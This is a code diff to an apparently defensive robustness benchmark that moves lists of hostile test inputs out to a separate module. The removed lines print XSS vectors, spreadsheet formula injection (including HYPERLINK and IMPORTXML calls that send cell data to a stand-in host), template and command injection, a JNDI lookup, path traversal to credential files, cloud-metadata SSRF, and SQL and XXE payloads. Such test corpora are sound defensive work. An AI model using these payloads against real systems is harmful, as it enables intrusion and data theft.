@@ -1,4 +1,4 @@
-"""Texts that break programs: what is no character, what looks like another, what wants to be executed somewhere."""
+"""Texts that break programs: what is no character, what looks like another, and what is in markup.py."""
 
 import random
 import sys
@@ -6,152 +6,12 @@ import unicodedata
 from collections.abc import Iterator
 from functools import lru_cache
 
-from benchmarks.hostile import Case
+from benchmarks.hostile import Case, markup
 from core import zoo
 from core.errors import AtlasError
 from core.text import read_text
 
 SEED = 18
-RUN = "window.__executed=1"
-MARKUP = (
-    f"<script>{RUN}</script>",
-    f"<SCRIPT SRC=data:text/javascript,{RUN}></SCRIPT>",
-    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
-    f"</textarea><script>{RUN}</script>",
-    f"--><script>{RUN}</script><!--",
-    f"]]><script>{RUN}</script>",
-    f"</title></style></script><script>{RUN}</script>",
-    f"<img src=x onerror={RUN}>",
-    f"<img src=x onerror\n=\n'{RUN}'>",
-    f"<img/src='x'/onerror=\"{RUN}\">",
-    f"<svg onload={RUN}>",
-    f"<svg><script>{RUN}</script></svg>",
-    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
-    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
-    f"<math><mtext><img src=x onerror={RUN}></mtext></math>",
-    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
-    f"<body onload={RUN}>",
-    f"<iframe srcdoc='<script>parent.{RUN[7:]}</script>'></iframe>",
-    f"<iframe src=javascript:parent.{RUN}></iframe>",
-    f"<object data='data:text/html,<script>parent.{RUN}</script>'>",
-    f"<embed src=javascript:{RUN}>",
-    f"<details open ontoggle={RUN}>x</details>",
-    f"<input autofocus onfocus={RUN}>",
-    f"<video><source onerror={RUN}></video>",
-    f"<audio src=x onerror={RUN}>",
-    f"<a href='javascript:{RUN}'>click</a>",
-    f"<a href='java\tscript:{RUN}'>click</a>",
-    f"<form action=javascript:{RUN}><button>go</button></form>",
-    f"<meta http-equiv=refresh content='0;javascript:{RUN}'>",
-    f"<base href='javascript:{RUN}//'>",
-    f"<link rel=stylesheet href='data:text/css,*{{background:url(javascript:{RUN})}}'>",
-    f"<style>@import 'javascript:{RUN}';</style>",
-    f"<div style='width:expression({RUN})'>",
-    f"<template><script>{RUN}</script></template>",
-    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'></noscript>",
-    f"&lt;script&gt;{RUN}&lt;/script&gt;",
-    f"&#60;script&#62;{RUN}&#60;/script&#62;",
-    f"%3Cscript%3E{RUN}%3C/script%3E",
-    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
-    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e",
-    f"<scr\u200bipt>{RUN}</scr\u200bipt>",
-    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
-    f"';{RUN};//",
-    f'";{RUN};//',
-    f"`;{RUN};`",
-    f"${{{RUN}}}",
-    f"\u2028{RUN}\u2029",
-    "<" * 5000,
-    "<b>" * 2000,
-    "<!--" + "-" * 3000,
-)
-MARKDOWN = (
-    f"[click](javascript:{RUN})",
-    f"[click](JaVaScRiPt&colon;{RUN})",
-    f"[click](data:text/html,<script>{RUN}</script>)",
-    f"![x](x' onerror='{RUN})",
-    "![x](https://elsewhere.invalid/pixel.png)",
-    f"<javascript:{RUN}>",
-    f"[x]: javascript:{RUN}\n[x]",
-    "# Title\n> quote\n- list\n1. list\n---\n***",
-    "| a | b |\n|---|---|\n| 1 | 2 |",
-    "```html\n<b>x</b>\n```",
-    "~~struck~~ **bold** __bold__ _it_ `code`",
-    ":red[red] :material/delete: :streamlit: :rainbow-background[x]",
-    ":small[" * 500,
-    "*" * 10_000,
-    "[" * 3000 + "x" + "](y)" * 3000,
-    "> " * 1500 + "deep",
-)
-LATEX = (
-    "$\\href{javascript:" + RUN + "}{x}$",
-    "$$\\def\\x{\\x\\x}\\x$$",
-    "$\\htmlData{onclick=" + RUN + "}{x}$",
-    "$" + "{" * 2000,
-    "$$\\frac" * 400,
-    "\\input{/etc/passwd} \\write18{id}",
-    "\\begin{matrix}" * 200,
-    "$\\rule{99999em}{99999em}$",
-)
-FORMULAS = (
-    '=HYPERLINK("http://elsewhere.invalid/?"&A1,"x")',
-    "=cmd|'/c calc'!A0",
-    "+1+1",
-    "-1+cmd|'/c calc'!A0",
-    "@SUM(1+1)",
-    '\t=1+1,"x"',
-    "\r=1+1",
-    '"=1+1"',
-    ";=1+1;",
-    "=IMPORTXML(CONCAT(\"http://elsewhere.invalid/\",A1),\"//a\")",
-)  # fmt: skip
-TEMPLATES = (
-    "%s%s%s%n%x%p",
-    "%99999999d",
-    "{0.__class__.__mro__}",
-    "{" * 1000,
-    "{0:99999999}",
-    "{{7*7}} {{config.items()}}",
-    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
-    "${7*7} #{7*7} <%= 7*7 %> ${{7*7}} @(7*7)",
-    "${jndi:ldap://elsewhere.invalid/a}",
-    "$(id) `id` ; id | id & id && id || id",
-    "__import__('os').system('id')",
-    "{{constructor.constructor('" + RUN + "')()}}",
-    "f'{open(\"/etc/passwd\").read()}'",
-    "!!python/object/apply:os.system [id]",
-    '{"__proto__": {"polluted": 1}}',
-    "O:8:\"stdClass\":1:{s:1:\"x\";i:1;}",
-)  # fmt: skip
-PATHS = (
-    "../../../../etc/passwd",
-    "..\\..\\..\\windows\\win.ini",
-    "....//....//etc/passwd",
-    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
-    "..%c0%af..%c0%afetc/passwd",
-    "/etc/passwd\0.txt",
-    "file:///etc/passwd",
-    "\\\\elsewhere\\share",
-    "~root/.ssh/id_rsa",
-    "/dev/zero",
-    "/proc/self/environ",
-    "CON",
-    "C:\\" + "a\\" * 2000,
-    "http://169.254.169.254/latest/meta-data/",
-)
-QUERIES = (
-    "' OR 1=1 --",
-    "'; DROP TABLE visitors; --",
-    '" OR ""="',
-    "1; SELECT pg_sleep(60)",
-    "*)(uid=*))(|(uid=*",
-    "{'$gt': ''}",
-    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>",
-    "(a+)+$" + "a" * 40 + "!",
-    "?text=x&show=&layer=-1#top",
-    "GET / HTTP/1.1\r\nHost: elsewhere.invalid\r\n\r\n",
-    "x\r\nSet-Cookie: a=b",
-)
 CONTROLS = (
     "\0",
     "a\0b",
@@ -286,13 +146,13 @@ BYTES = (
     bytes(range(256)),
 )
 KINDS: dict[str, tuple[str | bytes, ...]] = {
-    "text with markup and script": MARKUP,
-    "text with Markdown": MARKDOWN,
-    "text with LaTeX": LATEX,
-    "text with spreadsheet formulas": FORMULAS,
-    "text with format strings and templates": TEMPLATES,
-    "text with paths and addresses": PATHS,
-    "text with queries of other languages": QUERIES,
+    "text with markup and script": markup.MARKUP,
+    "text with Markdown": markup.MARKDOWN,
+    "text with LaTeX": markup.LATEX,
+    "text with spreadsheet formulas": markup.FORMULAS,
+    "text with format strings and templates": markup.TEMPLATES,
+    "text with paths and addresses": markup.PATHS,
+    "text with queries of other languages": markup.QUERIES,
     "text with control characters": CONTROLS,
     "text with directions": DIRECTIONS,
     "text that cannot be seen": INVISIBLE,
